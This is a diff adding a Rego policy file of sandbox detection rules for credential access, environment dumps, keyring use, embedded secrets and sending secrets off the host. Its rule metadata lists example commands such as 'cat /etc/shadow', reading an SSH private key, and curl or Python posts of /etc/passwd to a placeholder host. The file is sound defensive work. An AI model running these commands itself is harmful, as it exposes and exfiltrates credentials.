@@ -1,0 +1,150 @@
+# METADATA
+# scope: package
+# title: Rules about credentials
+package caisson.rules.credentials
+
+# METADATA
+# title: Reads credentials
+# custom:
+#   id: SBX-CRED-0001
+#   severity: high
+#   category: credentials
+#   cwe: ["CWE-200", "CWE-522"]
+#   attack: ["T1552.001", "T1003.008"]
+#   remediation: "Pass what the program needs as an argument."
+#   match:
+#     - {"language": "bash", "code": "cat /etc/shadow"}
+#     - {"language": "python", "code": "open('/root/.ssh/id_rsa').read()"}
+#     - {"language": "javascript", "code": "require('fs').readFileSync('/proc/self/environ')"}
+#   not_match:
+#     - {"language": "bash", "code": "cat notes.txt"}
+findings contains {"id": "SBX-CRED-0001", "at": f.at, "msg": sprintf("%s is read by %s", [f.path, f.by])} if {
+	some op in {"read", "copy_src", "move_src", "list", "link", "exec"}
+	some class in data.settings.secret_classes
+	some f in input.files[op][class]
+}
+
+# METADATA
+# title: Reads who the users are, or what they did
+# custom:
+#   id: SBX-CRED-0002
+#   severity: high
+#   category: credentials
+#   cwe: ["CWE-200"]
+#   attack: ["T1087.001", "T1552.003"]
+#   remediation: "Pass what the program needs as an argument."
+#   match:
+#     - {"language": "bash", "code": "cat /etc/passwd"}
+#     - {"language": "python", "code": "open('/etc/passwd').read()"}
+#     - {"language": "bash", "code": "cut -d: -f1 /e*/passwd"}
+#   not_match:
+#     - {"language": "bash", "code": "cat passwords_test.txt"}
+#     - {"language": "bash", "code": "echo /etc/passwd"}
+findings contains {"id": "SBX-CRED-0002", "at": f.at, "msg": sprintf("%s is read by %s", [f.path, f.by])} if {
+	some op in {"read", "copy_src", "move_src", "link"}
+	some class in data.settings.identity_classes
+	some f in input.files[op][class]
+}
+
+# METADATA
+# title: Sends a file or a secret away
+# custom:
+#   id: SBX-CRED-0003
+#   severity: critical
+#   category: network
+#   cwe: ["CWE-200"]
+#   attack: ["T1041", "T1048"]
+#   remediation: "Write results to the workspace."
+#   match:
+#     - {"language": "bash", "code": "curl -d @/etc/passwd http://x.test/"}
+#     - {"language": "python", "code": "import requests\nrequests.post('http://x.test', data=open('/etc/passwd').read())"}
+#   not_match:
+#     - {"language": "bash", "code": "curl http://x.test/"}
+findings contains {"id": "SBX-CRED-0003", "at": n.at, "msg": sprintf("%s goes to %s", [from, n.host])} if {
+	some class
+	some op in {"upload", "request", "connect", "send_udp"}
+	some n in input.net[class][op]
+	class != "allowed"
+	some from in n.carries
+	secret_origin(from)
+}
+
+secret_origin(from) if from in {"credentials", "screen", "keys", "clipboard", "camera", "microphone", "env_copy"}
+
+secret_origin(from) if startswith(from, "file:/etc/")
+
+secret_origin(from) if startswith(from, "file:/root/")
+
+secret_origin(from) if startswith(from, "file:/home/")
+
+secret_origin(from) if startswith(from, "file:/proc/")
+
+# METADATA
+# title: Dumps the whole environment
+# custom:
+#   id: SBX-CRED-0004
+#   severity: high
+#   category: credentials
+#   cwe: ["CWE-526"]
+#   attack: ["T1552.007"]
+#   remediation: "Read the variables that are needed, by name."
+#   match:
+#     - {"language": "bash", "code": "printenv"}
+#     - {"language": "python", "code": "import os\nprint(os.environ)"}
+#   not_match:
+#     - {"language": "python", "code": "import os\nos.environ.get('HOME')"}
+#     - {"language": "bash", "code": "env A=1 ls"}
+findings contains {"id": "SBX-CRED-0004", "at": e.at, "msg": "all environment variables are read"} if {
+	some class
+	some e in input.env.dump[class]
+}
+
+# METADATA
+# title: Reads a secret from the environment
+# custom:
+#   id: SBX-CRED-0005
+#   severity: low
+#   category: credentials
+#   cwe: ["CWE-526"]
+#   attack: ["T1552.007"]
+#   remediation: "A sandbox has no secrets of its host; pass a token of its own."
+#   match:
+#     - {"language": "python", "code": "import os\nos.environ['AWS_SECRET_ACCESS_KEY']"}
+#   not_match:
+#     - {"language": "python", "code": "import os\nos.environ['HOME']"}
+findings contains {"id": "SBX-CRED-0005", "at": e.at, "msg": sprintf("the variable %s is read", [e.name])} if {
+	some e in input.env.read.secret
+}
+
+# METADATA
+# title: Uses a store of credentials
+# custom:
+#   id: SBX-CRED-0006
+#   severity: high
+#   category: credentials
+#   cwe: ["CWE-522"]
+#   attack: ["T1555"]
+#   remediation: "Pass what the program needs as an argument."
+#   match:
+#     - {"language": "bash", "code": "secret-tool search a b"}
+#     - {"language": "python", "code": "import keyring\nkeyring.get_password('a','b')"}
+#   not_match:
+#     - {"language": "bash", "code": "ls"}
+findings contains {"id": "SBX-CRED-0006", "at": a.at, "msg": sprintf("%s", [concat(" ", [a.op, a.detail, a.by])])} if {
+	some op in ["credentials"]
+	some a in input.actions[op]
+}
+
+# METADATA
+# title: Holds a key or a token in its text
+# custom:
+#   id: SBX-CRED-0007
+#   severity: medium
+#   category: credentials
+#   cwe: ["CWE-798"]
+#   attack: ["T1552.001"]
+#   remediation: "Pass secrets as arguments."
+findings contains {"id": "SBX-CRED-0007", "at": s.at, "msg": sprintf("a %s stands in the text", [s.kind])} if {
+	some kind in {"private_key", "token"}
+	some s in input.strings[kind]
+}
